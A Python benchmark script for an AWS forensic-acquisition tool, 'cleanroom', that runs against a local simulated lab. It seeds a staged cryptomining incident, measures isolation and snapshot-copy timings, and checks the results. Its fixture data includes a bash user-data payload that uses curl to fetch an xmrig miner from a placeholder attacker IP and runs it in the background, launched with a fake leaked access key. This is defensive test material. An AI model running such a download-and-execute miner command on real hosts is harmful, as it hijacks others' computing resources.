"""acquire --no-analysis speed (issue 12), run by scripts/bench-aws after aws_speed.py
(skip it with --skip-acquire): one instance with two EBS volumes (the cryptomining incident
of the lab acceptance test: an encrypted root volume under aws/ebs, so a relay copy under
the hand-off key, and an unencrypted data volume, shared as it is), acquired through the
member role into a separate forensics account, with the lab's latency (default 40 ms on
every AWS request) and its snapshot progress (snapshots and copies stay "pending" for
--snapshot-polls DescribeSnapshots polls, then complete).

Timed from process start, from the lab's request log (GET /_lab/realism/log, each request's
start and end; S3 entries carry the object key):
  first evidence  end of the first S3 PutObject (or CompleteMultipartUpload) of an object
                  under cases/<case>/evidence/
  isolation       end of the last ModifyNetworkInterfaceAttribute that is not a DryRun
  copies          end of the last DescribeSnapshots in the forensics account before the
                  last forensics-copy-<snapshot>.json item is stored: the poll that saw the last
                  copy completed (cleanroom polls each copy until it is completed, then
                  removes the share and stores that item)
  wall            process start to exit
For each: round trips by time (elapsed / latency), the longest chain of requests each sent
after the previous one was answered ("sequential in the log"), and the time no request was
in flight (cleanroom's own work and its poll sleeps). Calls per service and operation.

Checked after each run (latency off): `cleanroom verify --case` exits 0 (with --no-signing:
its integrity-only verdict, exit 1 by design), every ENI of the
instance is on the case's isolation group alone, two completed copies of the case in the
forensics account under its key, no share of the member snapshots left.

Writes target/bench/acquire.json (and the median run's request log to
target/bench/acquire-log.json) and prints a summary with the load average at each figure.
Loopback only: the lab is a child process on 127.0.0.1, the SDK never reaches instance
metadata (AWS_EC2_METADATA_DISABLED, explicit region and credentials, no profile files).

Usage: scripts/bench-aws --skip-one --skip-fleet [--latency-ms 40] [--runs 3] [--snapshot-polls 3]
or, with BENCH_ROOT and BENCH_DIR set as scripts/bench-aws sets them:
  lab/.venv/bin/python benches/acquire_speed.py [--latency-ms 40] [--runs 3] [--snapshot-polls 3] [--no-signing]
Env BENCH_CLEANROOM: another cleanroom binary to measure (default: target/debug/cleanroom)."""

from __future__ import annotations

import argparse
import collections
import json
import os
import statistics
import subprocess
import sys
import time

import boto3

from labbench import Header, Lab, accounts, chain_depth, drop_log, is_swap, load, summarise_calls, trust

root, bench = os.environ["BENCH_ROOT"], os.environ["BENCH_DIR"]
ap = argparse.ArgumentParser(prog="benches/acquire_speed.py")
ap.add_argument("--latency-ms", type=float, default=40.0, help="fixed latency of every AWS request (issue 12: 40)")
ap.add_argument("--runs", type=int, default=3, help="runs (a fresh member account and instance each; median)")
ap.add_argument("--snapshot-polls", type=int, default=3,
                help="DescribeSnapshots polls a new snapshot or copy stays pending (the drill uses 2)")
ap.add_argument("--no-signing", action="store_true",
                help="no signing key in the configuration (the deployed stack and the drill have one)")
args = ap.parse_args()
if args.latency_ms <= 0 or args.runs < 1 or args.snapshot_polls < 0:
    ap.error("--latency-ms must be > 0 (round trips are counted in it), --runs >= 1, --snapshot-polls >= 0")
REGION = "eu-west-1"
HOME = "123456789012"
LATENCY_S = args.latency_ms / 1000.0
CLEANROOM = os.environ.get("BENCH_CLEANROOM") or f"{root}/target/debug/cleanroom"
HANDOFF_ALIAS = "alias/cleanroom-handoff"
ATTACKER_IP = "203.0.113.66"
MINER_USERDATA = """#!/bin/bash
curl -s http://203.0.113.66/x/xmrig -o /tmp/.cache/xmrig
chmod +x /tmp/.cache/xmrig
nohup /tmp/.cache/xmrig -o stratum+tcp://pool.minexmr.example:4444 -u 44AFFq5k --donate-level 1 &
"""

lab = Lab(root, REGION, HOME)
url, env = lab.url, lab.env
admin, realism, request_log, client, isolation_checked = lab.admin, lab.realism, lab.request_log, lab.client, lab.isolation_checked
account = accounts("5")


# -- seeding (as src/lab/seed.rs and src/lab/scenario.rs do for the acceptance test) ------

def forensics():
    """The forensics account: its role, the evidence bucket (versioning, Object Lock,
    COMPLIANCE default retention), the evidence key and the checkpoint signing key.
    Returns (account, evidence key ARN, configuration path)."""
    acct = account()
    client("iam", acct).create_role(RoleName="CleanroomForensics", AssumeRolePolicyDocument=trust(HOME))
    s3 = client("s3", acct)
    bucket = f"bench-acquire-{acct}"
    s3.create_bucket(Bucket=bucket, ObjectLockEnabledForBucket=True, CreateBucketConfiguration={"LocationConstraint": REGION})
    s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
    s3.put_object_lock_configuration(Bucket=bucket, ObjectLockConfiguration={"ObjectLockEnabled": "Enabled", "Rule": {"DefaultRetention": {"Mode": "COMPLIANCE", "Days": 1}}})
    kms = client("kms", acct)
    key = kms.create_key(Description="cleanroom forensics evidence key (bench)")["KeyMetadata"]["Arn"]
    signing = "" if args.no_signing else kms.create_key(
        Description="cleanroom custody checkpoint signing key (bench)", KeySpec="ECC_NIST_P256", KeyUsage="SIGN_VERIFY")["KeyMetadata"]["Arn"]
    cfg = f"""examiner = "Bench Examiner, cleanroom lab"
[forensics]
account_id = "{acct}"
role_arn = "arn:aws:iam::{acct}:role/CleanroomForensics"
region = "{REGION}"
evidence_bucket = "{bucket}"
kms_key_arn = "{key}"
{f'signing_key_arn = "{signing}"' if signing else ""}
retention_days = 1
[member]
role_name = "CleanroomResponder"
handoff_key = "{HANDOFF_ALIAS}"
[analysis]
subnet_id = "subnet-0123456789abcdef0"
security_group_id = "sg-0123456789abcdef0"
instance_profile = "CleanroomAnalysis"
ami = "ami-0123456789abcdef0"
"""
    path = os.path.join(bench, "cleanroom-bench-acquire.toml")
    open(path, "w").write(cfg)
    return acct, key, path


def incident(acct: str, forensics_acct: str, cidr: str) -> dict:
    """The member account of the cryptomining incident: the member role, the hand-off key
    (usable by the forensics account for copies), a leaked developer key that launched
    the instance (so the lab's CloudTrail has the launch), an IPv6 VPC with SSH open to
    the world, an instance profile, and the instance: root volume encrypted under aws/ebs
    plus an unencrypted data volume, 1 GiB each; console output showing the miner."""
    iam = client("iam", acct)
    iam.create_role(RoleName="CleanroomResponder", AssumeRolePolicyDocument=trust(HOME))
    policy = {"Version": "2012-10-17", "Statement": [
        {"Sid": "Owner", "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{acct}:root"}, "Action": "kms:*", "Resource": "*"},
        {"Sid": "ForensicsAccountCopiesSharedSnapshots", "Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{forensics_acct}:root"},
         "Action": ["kms:DescribeKey", "kms:CreateGrant", "kms:Decrypt", "kms:ReEncrypt*", "kms:GenerateDataKeyWithoutPlaintext"], "Resource": "*"}]}
    kms = client("kms", acct)
    handoff = kms.create_key(Description="cleanroom hand-off key (bench)", Policy=json.dumps(policy))["KeyMetadata"]["Arn"]
    kms.create_alias(AliasName=HANDOFF_ALIAS, TargetKeyId=handoff)

    iam.create_user(UserName="dev-ci")
    leaked = iam.create_access_key(UserName="dev-ci")["AccessKey"]
    attacker = boto3.client("ec2", endpoint_url=url, region_name=REGION, aws_access_key_id=leaked["AccessKeyId"],
                            aws_secret_access_key=leaked["SecretAccessKey"])
    attacker.meta.events.register("before-send.*.*", Header("x-lab-source-ip", ATTACKER_IP))

    ec2 = client("ec2", acct)
    vpc = ec2.create_vpc(CidrBlock=f"{cidr}.0.0/16", AmazonProvidedIpv6CidrBlock=True)["Vpc"]["VpcId"]
    sub = ec2.create_subnet(VpcId=vpc, CidrBlock=f"{cidr}.1.0/24", AvailabilityZone=f"{REGION}a")["Subnet"]["SubnetId"]
    web = ec2.create_security_group(GroupName="web", Description="web tier", VpcId=vpc)["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=web, IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
    iam.create_role(RoleName="web-app-role", AssumeRolePolicyDocument=json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}]}))
    iam.create_instance_profile(InstanceProfileName="web-app-role")
    iam.add_role_to_instance_profile(InstanceProfileName="web-app-role", RoleName="web-app-role")
    ami = ec2.register_image(Name="ubuntu-22.04-lab", RootDeviceName="/dev/sda1", Architecture="x86_64")["ImageId"]
    inst = attacker.run_instances(
        ImageId=ami, InstanceType="c5.xlarge", MinCount=1, MaxCount=1, UserData=MINER_USERDATA,
        BlockDeviceMappings=[{"DeviceName": "/dev/sda1", "Ebs": {"Encrypted": True, "VolumeSize": 1}}],
        NetworkInterfaces=[{"DeviceIndex": 0, "SubnetId": sub, "Groups": [web], "AssociatePublicIpAddress": True}],
        IamInstanceProfile={"Name": "web-app-role"},
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": "ci-runner-7"}]}])["Instances"][0]
    iid = inst["InstanceId"]
    vol = ec2.create_volume(AvailabilityZone=f"{REGION}a", Size=1)["VolumeId"]
    ec2.attach_volume(VolumeId=vol, InstanceId=iid, Device="/dev/sdf")
    console = b"[    0.000000] Linux version 5.15.0-1051-aws\n[   14.500000] xmrig[1337]: net use pool pool.minexmr.example:4444\n"
    admin("PUT", f"/_lab/instances/{iid}/console-output?region={REGION}", account=acct, raw=console)
    volumes = [m["Ebs"]["VolumeId"] for m in ec2.describe_instances(InstanceIds=[iid])["Reservations"][0]["Instances"][0]["BlockDeviceMappings"]]
    return {"account": acct, "instance": iid, "volumes": volumes, "arn": f"arn:aws:ec2:{REGION}:{acct}:instance/{iid}"}


# -- checks --------------------------------------------------------------------------------

def copies_checked(forensics_acct, key, member_acct, case, volumes) -> dict:
    """The case's snapshots in the forensics account: one completed copy per volume under
    the forensics key; and no snapshot of the case in the member account still shared."""
    ec2 = client("ec2", forensics_acct)
    snaps = ec2.describe_snapshots(OwnerIds=["self"], Filters=[{"Name": "tag:cleanroom:case", "Values": [case]}])["Snapshots"]
    tag = lambda s, k: next((t["Value"] for t in s.get("Tags", []) if t["Key"] == k), None)
    copies = [{"snapshot": s["SnapshotId"], "state": s["State"], "kms_key": s.get("KmsKeyId"),
               "source_volume": tag(s, "cleanroom:source-volume"),
               "lab_progress": admin("GET", f"/_lab/snapshots/{s['SnapshotId']}/progress")} for s in snaps]
    mec2 = client("ec2", member_acct)
    shared = []
    for s in mec2.describe_snapshots(OwnerIds=["self"], Filters=[{"Name": "tag:cleanroom:case", "Values": [case]}])["Snapshots"]:
        perms = mec2.describe_snapshot_attribute(SnapshotId=s["SnapshotId"], Attribute="createVolumePermission")["CreateVolumePermissions"]
        if perms:
            shared.append({"snapshot": s["SnapshotId"], "shared_with": perms})
    ok = (len(copies) == len(volumes) and all(c["state"] == "completed" and c["kms_key"] == key for c in copies)
          and sorted(c["source_volume"] or "" for c in copies) == sorted(volumes) and not shared)
    return {"ok": ok, "copies": copies, "member_shares_left": shared}


# -- reading the request log ---------------------------------------------------------------

def stores_object(e: dict) -> bool:
    return e["service"] == "s3" and e["operation"] in ("PutObject", "CompleteMultipartUpload") and e["status"] == 200


def idle_s(log: list[dict], t0: float, until: float) -> float:
    """Time between t0 and `until` with no request in flight: the process start, local
    work and sleeps between polls (none of it a round trip)."""
    spans = sorted((max(e["start"], t0), min(e["end"], until)) for e in log if e["start"] < until)
    busy, cur_s, cur_e = 0.0, None, None
    for s, e in spans:
        if e <= s:
            continue
        if cur_e is None or s > cur_e:
            if cur_e is not None:
                busy += cur_e - cur_s
            cur_s, cur_e = s, e
        else:
            cur_e = max(cur_e, e)
    if cur_e is not None:
        busy += cur_e - cur_s
    return (until - t0) - busy


def milestones(log: list[dict], t0: float, case: str, forensics_acct: str) -> dict:
    prefix = f"cases/{case}/evidence/"
    items = sorted((e for e in log if stores_object(e) and (e.get("key") or "").startswith(prefix)), key=lambda e: e["end"])
    if items and "key" not in items[0]:
        sys.exit("the lab's request log has no S3 keys: lab/labext/realism.py is older than this bench")
    swaps = [e["end"] for e in log if is_swap(e)]
    handed = [e for e in items if "/forensics-copy-" in e["key"]]
    last_item = max((e["start"] for e in handed), default=None)
    polls = [e for e in log if e["service"] == "ec2" and e["operation"] == "DescribeSnapshots" and e["account"] == forensics_acct]
    completed = max((e["end"] for e in polls if last_item is not None and e["end"] <= last_item), default=None)
    return {"first_evidence": items[0]["end"] if items else None, "first_evidence_key": items[0]["key"] if items else None,
            "isolation": max(swaps) if swaps else None, "copies_completed": completed,
            "evidence_items_stored": len({e["key"] for e in items}), "forensics_polls": len(polls),
            "member_polls": sum(e["service"] == "ec2" and e["operation"] == "DescribeSnapshots" and e["account"] != forensics_acct for e in log)}


def acquire(config: str, case: str, target: str, forensics_acct: str) -> dict:
    t0 = time.time()
    p = subprocess.run([CLEANROOM, "--config", config, "--json", "acquire", "--no-analysis", "--case", case, target],
                       env=env, capture_output=True, text=True)
    wall = time.time() - t0
    the_load = load()
    log = request_log()
    if p.returncode != 0:
        sys.exit(f"cleanroom acquire failed ({p.returncode}):\n{p.stdout[-4000:]}\n{p.stderr[-4000:]}")
    out = json.loads(p.stdout)
    m = milestones(log, t0, case, forensics_acct)
    r = {"wall_s": wall, "load": the_load, "evidence_items": sum(len(i["evidence"]) for i in out["instances"]),
         "forensics_copies": sum(len(i["forensics_copies"]) for i in out["instances"]),
         "containment": [i["containment"] for i in out["instances"]],
         "end_checks": [c for i in out["instances"] for c in i["checks"]],
         "capture_gaps": [g for i in out["instances"] for g in i["gaps"]],
         "warnings": [w for i in out["instances"] for w in (i["warnings"] or [])],
         "first_evidence_key": m["first_evidence_key"], "evidence_items_stored": m["evidence_items_stored"],
         "describe_snapshots_polls": {"forensics": m["forensics_polls"], "member": m["member_polls"]},
         "calls_total": summarise_calls(log), "log": log, "t0": t0}
    ends = {"first_evidence": m["first_evidence"], "isolation": m["isolation"], "copies_completed": m["copies_completed"],
            "exit": t0 + wall}
    for name, end in ends.items():
        if end is None:
            r[name] = None
            continue
        r[name] = {"s": end - t0, "round_trips_by_time": (end - t0) / LATENCY_S if LATENCY_S else None,
                   "sequential_in_log": chain_depth(log, end), "idle_s": idle_s(log, t0, end),
                   "calls": summarise_calls(log, end)["by_service"]}
    return r


def verify(config: str, case: str) -> dict:
    """`cleanroom verify --case`: exit 0 (VERIFIED) is the check. Without a signing key
    (--no-signing) verify can prove integrity only and exits 1 by design; then the check is
    that verdict and nothing worse."""
    p = subprocess.run([CLEANROOM, "--config", config, "verify", "--case", case], env=env, capture_output=True, text=True)
    verdict = (p.stdout.strip().splitlines() or [""])[-1]  # its last line: VERIFIED: ..., NOT AUTHENTICATED ...
    ok = p.returncode == 0 or (args.no_signing and p.returncode == 1 and verdict.startswith("NOT AUTHENTICATED (integrity only)"))
    return {"exit": p.returncode, "ok": ok, "verdict": verdict, "output": (p.stdout + p.stderr)[-3000:]}


results = {"lab": "moto 5.2.5 + cleanroom extensions, loopback, realism on", "latency_ms": args.latency_ms,
           "snapshot_polls": args.snapshot_polls, "signing_key": not args.no_signing,
           "build": f"cleanroom debug build {CLEANROOM}", "command": "cleanroom acquire --no-analysis --case <case> <instance ARN>"}
try:
    realism(0)
    admin("POST", "/_lab/config", {"snapshot_polls": args.snapshot_polls})
    f_acct, f_key, config = forensics()
    runs = []
    for r in range(args.runs):
        realism(0)
        inc = incident(account(), f_acct, f"10.{20 + r}")
        case = f"BENCH-ACQ-{r}"
        realism(args.latency_ms)
        x = acquire(config, case, inc["arn"], f_acct)
        realism(0)
        x["verify"] = verify(config, case)
        x["isolation_checked"] = isolation_checked(inc["account"], inc["instance"])
        x["copies_checked"] = copies_checked(f_acct, f_key, inc["account"], case, inc["volumes"])
        x["instance"], x["volumes"], x["case"] = inc["instance"], inc["volumes"], case
        runs.append(x)
        ok = x["verify"]["ok"] and x["isolation_checked"] and x["copies_checked"]["ok"]
        print(f"run {r + 1}/{args.runs} [load {x['load']}]: wall {x['wall_s']:.2f} s, isolation "
              f"{x['isolation']['s'] if x['isolation'] else float('nan'):.2f} s, copies "
              f"{x['copies_completed']['s'] if x['copies_completed'] else float('nan'):.2f} s; checks {'ok' if ok else 'FAILED'}",
              file=sys.stderr)

    def med(name):
        xs = [x[name]["s"] for x in runs if x[name]]
        return (statistics.median(xs), min(xs), max(xs)) if xs else (float("nan"),) * 3

    mid = sorted(runs, key=lambda x: x["wall_s"])[len(runs) // 2]
    results["median_s"] = {n: dict(zip(("median", "min", "max"), med(n))) for n in ("first_evidence", "isolation", "copies_completed", "exit")}
    results["median_run"] = drop_log(mid)
    results["runs"] = [drop_log(x) for x in runs]
    results["all_checked"] = all(x["verify"]["ok"] and x["isolation_checked"] and x["copies_checked"]["ok"] for x in runs)
    open(f"{bench}/acquire-log.json", "w").write(json.dumps({"t0": mid["t0"], "case": mid["case"], "log": mid["log"]}, indent=1))

    lines = [f"cleanroom acquire --no-analysis, 1 instance, 2 EBS volumes (root under aws/ebs: relay copy; data unencrypted), "
             f"member role -> forensics account; {args.latency_ms:g} ms per request, snapshots pending for {args.snapshot_polls} polls, "
             f"signing key {'off' if args.no_signing else 'on'}; {args.runs} runs, medians (min-max); figures from process start; "
             f"load average at the end of each run: {'; '.join(x['load'] for x in runs)}",
             "  (each figure: the median over the runs; its breakdown and the load shown are those of the median-wall run)"]
    labels = {"first_evidence": "first evidence item stored", "isolation": "isolation (last ENI swap)",
              "copies_completed": "forensics copies completed", "exit": "process exit (wall)"}
    for n, label in labels.items():
        m, lo, hi = med(n)
        d = mid[n]
        lines.append(f"[load {mid['load']}] {label:30s} {m:7.3f} s ({lo:.3f}-{hi:.3f}) = {m / LATENCY_S:6.1f} round trips by time; "
                     f"median-wall run: {d['sequential_in_log']} sequential in the log, {d['idle_s']:.2f} s with no request in flight, "
                     f"calls {d['calls']}")
    lines += [f"  first evidence item: {mid['first_evidence_key']}",
              f"  calls in the whole command (median-wall run): {mid['calls_total']['requests']} {mid['calls_total']['by_service']}, "
              f"{mid['calls_total']['errors']} answered >= 400",
              "  most frequent: " + ", ".join(f"{k} {v}" for k, v in collections.Counter(mid['calls_total']['by_operation']).most_common(12)),
              f"  DescribeSnapshots polls: {mid['describe_snapshots_polls']}; evidence items {mid['evidence_items']} "
              f"({mid['evidence_items_stored']} objects under evidence/), forensics copies {mid['forensics_copies']}",
              f"  capture gaps (median-wall run): {mid['capture_gaps']}; warnings: {mid['warnings']}",
              f"  checked: verify exit {[x['verify']['exit'] for x in runs]} ({mid['verify']['verdict'][:60]}...), isolation {[x['isolation_checked'] for x in runs]}, "
              f"copies completed under the forensics key and no share left {[x['copies_checked']['ok'] for x in runs]}"]
    print("\n".join(lines))
    json.dump(results, open(f"{bench}/acquire.json", "w"), indent=2, default=str)
    print(f"written: {bench}/acquire.json, {bench}/acquire-log.json")
    if not results["all_checked"]:
        sys.exit("bench: a result check failed (see acquire.json: verify, isolation_checked, copies_checked)")
finally:
    lab.stop()
